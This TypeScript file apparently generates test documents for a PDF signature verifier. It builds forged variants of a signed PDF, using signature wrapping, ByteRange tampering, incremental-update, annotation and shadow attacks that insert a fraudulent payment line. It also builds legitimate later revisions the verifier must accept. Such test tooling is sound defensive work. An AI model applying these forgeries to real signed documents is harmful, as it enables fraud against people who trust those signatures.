/**
 * A generator of documents that try to fool a verifier (RUB: "1 Trillion Dollar Refund", 2019;
 * "Shadow attacks", 2021; "Breaking the Specification: PDF Certification", 2021), and of the
 * legitimate later revisions a verifier must accept. Every case starts from a document Kyso signs.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { PdfArray, PdfDict, PdfName, PdfReader, PdfRef, PdfStream, PdfString, IncrementalWriter, type PdfObject } from "@kyso/pdf";

export function load(file: string): Buffer {
  return Buffer.from(readFileSync(file));
}

/** Appends one incremental update made by `edit` (new/changed objects through IncrementalWriter). */
export function update(bytes: Uint8Array, edit: (w: IncrementalWriter, r: PdfReader) => void): Buffer {
  const r = PdfReader.fromBytes(bytes);
  const w = new IncrementalWriter(r);
  edit(w, r);
  return Buffer.concat([bytes, w.build().bytes]);
}

/** Replaces `from` by `to` padded with spaces to the same length (offsets stay valid). */
export function patchSameLength(b: Buffer, from: RegExp, to: (m: string) => string): Buffer {
  const s = b.toString("latin1");
  const m = from.exec(s);
  if (!m) throw new Error(`pattern ${from} not found`);
  let rep = to(m[0]);
  if (rep.length > m[0].length) throw new Error("replacement longer than the original");
  rep = rep.padEnd(m[0].length, " ");
  return Buffer.concat([b.subarray(0, m.index), Buffer.from(rep, "latin1"), b.subarray(m.index + m[0].length)]);
}

export function lastByteRange(b: Buffer): number[] {
  const s = b.toString("latin1");
  const all = [...s.matchAll(/\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/g)];
  return all[all.length - 1].slice(1, 5).map(Number);
}

function content(text: string): PdfStream {
  return new PdfStream(new PdfDict([["Length", Buffer.byteLength(text, "latin1")]]), new Uint8Array(Buffer.from(text, "latin1")));
}

const EVIL = "BT /F1 24 Tf 72 700 Td (PAY 1,000,000,000 VND TO ACCOUNT 666) Tj ET";

export const attacks = {
  /** USF: /ByteRange removed (key renamed). */
  usfNoByteRange: (signed: Buffer): Buffer => patchSameLength(signed, /\/ByteRange/, () => "/ByteRangX"),
  /** USF: /ByteRange null. */
  usfNullByteRange: (signed: Buffer): Buffer => patchSameLength(signed, /\/ByteRange\s*\[[^\]]*\]/, () => "/ByteRange null"),
  /** USF: a degenerate /ByteRange covering nothing. */
  usfDegenerateByteRange: (signed: Buffer): Buffer => patchSameLength(signed, /\/ByteRange\s*\[[^\]]*\]/, () => "/ByteRange [0 0 0 0]"),
  /** USF: /Contents emptied (zeros, same length). */
  usfEmptyContents: (signed: Buffer): Buffer => {
    const [, a, b] = lastByteRange(signed);
    const out = Buffer.from(signed);
    out.fill(0x30, a + 1, b - 1);
    return out;
  },
  /** ISA: a later revision replaces the page's content stream. */
  isaPageContent: (signed: Buffer): Buffer =>
    update(signed, (w, r) => {
      const page = r.page(0);
      const c = w.add(content(EVIL));
      w.set(page.ref, page.dict.clone().set("Contents", c));
    }),
  /** ISA: the same change appended without any cross-reference data (objects after %%EOF). */
  isaNoXref: (signed: Buffer): Buffer => {
    const r = PdfReader.fromBytes(signed);
    const page = r.page(0);
    const contentsRef = page.dict.get("Contents");
    const num = contentsRef instanceof PdfRef ? contentsRef.num : 4;
    return Buffer.concat([signed, Buffer.from(`${num} 0 obj\n<< /Length ${EVIL.length} >>\nstream\n${EVIL}\nendstream\nendobj\n`, "latin1")]);
  },
  /** ISA: the content is changed and the signed field is removed from the form (hidden). */
  isaHiddenField: (signed: Buffer): Buffer =>
    update(signed, (w, r) => {
      const page = r.page(0);
      const c = w.add(content(EVIL));
      w.set(page.ref, page.dict.clone().set("Contents", c).set("Annots", new PdfArray([])));
      const acroRef = r.catalog().get("AcroForm");
      if (acroRef instanceof PdfRef) w.set(acroRef, (r.dict(acroRef) as PdfDict).clone().set("Fields", new PdfArray([])));
    }),
  /** SWA: the byte range moved so that a new object sits in the uncovered gap. */
  signatureWrapping: (signed: Buffer): Buffer => {
    const [, a, b, c] = lastByteRange(signed);
    const inserted = Buffer.from(`\n99 0 obj\n<< /Length ${EVIL.length} >>\nstream\n${EVIL}\nendstream\nendobj\n`, "latin1");
    const moved = Buffer.concat([signed.subarray(0, b), inserted, signed.subarray(b)]);
    return patchSameLength(moved, /\/ByteRange\s*\[[^\]]*\]/, () => `/ByteRange [0 ${a} ${b + inserted.length} ${c}]`);
  },
  /** Bytes appended after the signed revision, in no revision at all. */
  appendedGarbage: (signed: Buffer): Buffer => Buffer.concat([signed, Buffer.from("\n% appended by someone\n1 0 obj (x) endobj\n", "latin1")]),
  /** EAA: a FreeText annotation that overlays the page. */
  evilAnnotation: (signed: Buffer, subtype = "FreeText"): Buffer =>
    update(signed, (w, r) => {
      const page = r.page(0);
      const annot = w.add(
        new PdfDict([
          ["Type", PdfName.of("Annot")],
          ["Subtype", PdfName.of(subtype)],
          ["Rect", new PdfArray([50, 650, 550, 750])],
          ["Contents", new PdfString(new Uint8Array(Buffer.from("PAY 1,000,000,000 VND", "latin1")))],
          ["DA", new PdfString(new Uint8Array(Buffer.from("/Helv 24 Tf 0 g", "latin1")))],
          ["P", page.ref],
        ]),
      );
      const annots = r.array(page.dict.get("Annots"));
      w.set(page.ref, page.dict.clone().set("Annots", new PdfArray([...(annots?.items ?? []), annot])));
    }),
  /** SSA: an unsigned signature field whose visible widget draws over the page. */
  sneakySignature: (signed: Buffer): Buffer =>
    update(signed, (w, r) => {
      const page = r.page(0);
      const ap = w.add(new PdfStream(new PdfDict([["Type", PdfName.of("XObject")], ["Subtype", PdfName.of("Form")], ["BBox", new PdfArray([0, 0, 500, 100])], ["Length", EVIL.length]]), new Uint8Array(Buffer.from(EVIL, "latin1"))));
      const widget = w.add(
        new PdfDict([
          ["Type", PdfName.of("Annot")],
          ["Subtype", PdfName.of("Widget")],
          ["FT", PdfName.of("Sig")],
          ["T", new PdfString(new Uint8Array(Buffer.from("Sneaky", "latin1")))],
          ["Rect", new PdfArray([50, 650, 550, 750])],
          ["F", 4],
          ["AP", new PdfDict([["N", ap]])],
          ["P", page.ref],
        ]),
      );
      const annots = r.array(page.dict.get("Annots"));
      w.set(page.ref, page.dict.clone().set("Annots", new PdfArray([...(annots?.items ?? []), widget])));
      const acroRef = r.catalog().get("AcroForm") as PdfRef;
      const acro = (r.dict(acroRef) as PdfDict).clone();
      const fieldsEntry = acro.get("Fields");
      const fields = r.array(fieldsEntry);
      const next = new PdfArray([...(fields?.items ?? []), widget]);
      if (fieldsEntry instanceof PdfRef) w.set(fieldsEntry, next);
      else w.set(acroRef, acro.set("Fields", next));
    }),
  /** Shadow "hide": fills an object the signed page referred to but that did not exist yet. */
  shadowHide: (signed: Buffer, danglingNum: number): Buffer =>
    update(signed, (w) => {
      w.set(new PdfRef(danglingNum, 0), content(EVIL));
    }),
  /** Shadow "replace": a later revision replaces an object of the signed revision (the font). */
  shadowReplace: (signed: Buffer): Buffer =>
    update(signed, (w, r) => {
      const page = r.page(0);
      const res = r.dict(page.dict.get("Resources") ?? page.inherited.get("Resources"));
      const fonts = r.dict(res?.get("Font"));
      const fontRef = [...(fonts?.entries.values() ?? [])].find((v) => v instanceof PdfRef) as PdfRef | undefined;
      if (!fontRef) throw new Error("no indirect font on page 1");
      w.set(fontRef, new PdfDict([["Type", PdfName.of("Font")], ["Subtype", PdfName.of("Type1")], ["BaseFont", PdfName.of("Symbol")]]));
    }),
  /** Shadow "hide-and-replace": a later revision swaps the whole page tree for another one. */
  shadowHideAndReplace: (signed: Buffer): Buffer =>
    update(signed, (w, r) => {
      const catalog = r.catalog();
      const c = w.add(content(EVIL));
      const pagesRef = w.allocate();
      const page = w.add(new PdfDict([["Type", PdfName.of("Page")], ["Parent", pagesRef], ["MediaBox", new PdfArray([0, 0, 595, 842])], ["Contents", c]]));
      w.set(pagesRef, new PdfDict([["Type", PdfName.of("Pages")], ["Kids", new PdfArray([page])], ["Count", 1]]));
      w.set(r.catalogRef, catalog.clone().set("Pages", pagesRef));
    }),
};

/** A copy of an unsigned document whose first page refers to a content stream that does not exist yet. */
export function withDanglingContent(bytes: Uint8Array): { bytes: Buffer; num: number } {
  let num = 0;
  const out = update(bytes, (w, r) => {
    const page = r.page(0);
    num = r.size + 50;
    const old = page.dict.get("Contents");
    const list = old instanceof PdfArray ? old.items : old ? [old] : [];
    w.set(page.ref, page.dict.clone().set("Contents", new PdfArray([...list, new PdfRef(num, 0)])));
  });
  return { bytes: out, num };
}

/** An unsigned document with a text field "HoTen" on page 1 (to test form filling after signing). */
export function withTextField(bytes: Uint8Array): Buffer {
  return update(bytes, (w, r) => {
    const page = r.page(0);
    const field = w.add(
      new PdfDict([
        ["Type", PdfName.of("Annot")],
        ["Subtype", PdfName.of("Widget")],
        ["FT", PdfName.of("Tx")],
        ["T", new PdfString(new Uint8Array(Buffer.from("HoTen", "latin1")))],
        ["Rect", new PdfArray([72, 600, 300, 620])],
        ["DA", new PdfString(new Uint8Array(Buffer.from("/Helv 12 Tf 0 g", "latin1")))],
        ["P", page.ref],
      ]),
    );
    const annots = r.array(page.dict.get("Annots"));
    w.set(page.ref, page.dict.clone().set("Annots", new PdfArray([...(annots?.items ?? []), field])));
    const acroRef = w.add(new PdfDict([["Fields", new PdfArray([field])], ["DA", new PdfString(new Uint8Array(Buffer.from("/Helv 0 Tf 0 g", "latin1")))]]));
    w.set(r.catalogRef, r.catalog().clone().set("AcroForm", acroRef));
  });
}

/** Fills the text field "HoTen" (value and appearance), as a form filler would. */
export function fillTextField(signed: Buffer, value: string): Buffer {
  return update(signed, (w, r) => {
    const acro = r.dict(r.catalog().get("AcroForm"));
    const fields = r.array(acro?.get("Fields"))?.items ?? [];
    const ref = fields.find((f) => r.dict(f)?.getName("FT") === "Tx") as PdfRef;
    const ap = w.add(new PdfStream(new PdfDict([["Type", PdfName.of("XObject")], ["Subtype", PdfName.of("Form")], ["BBox", new PdfArray([0, 0, 228, 20])]]), new Uint8Array(Buffer.from(`BT /Helv 12 Tf 2 5 Td (${value}) Tj ET`, "latin1"))));
    w.set(ref, (r.dict(ref) as PdfDict).clone().set("V", new PdfString(new Uint8Array(Buffer.from(value, "latin1")))).set("AP", new PdfDict([["N", ap]])));
  });
}

/** Adds a DSS with the given certificates and CRLs (EN 319 142-1 §5.4.2), as LTV extension does. */
export function addDss(signed: Buffer, certs: Uint8Array[], crls: Uint8Array[]): Buffer {
  return update(signed, (w, r) => {
    const stream = (d: Uint8Array): PdfRef => w.add(new PdfStream(new PdfDict([["Length", d.length]]), d));
    const dss = w.add(new PdfDict([["Certs", new PdfArray(certs.map(stream))], ["CRLs", new PdfArray(crls.map(stream))]]));
    w.set(r.catalogRef, r.catalog().clone().set("DSS", dss));
  });
}

export function save(path: string, b: Uint8Array): string {
  writeFileSync(path, b);
  return path;
}

export type { PdfObject };
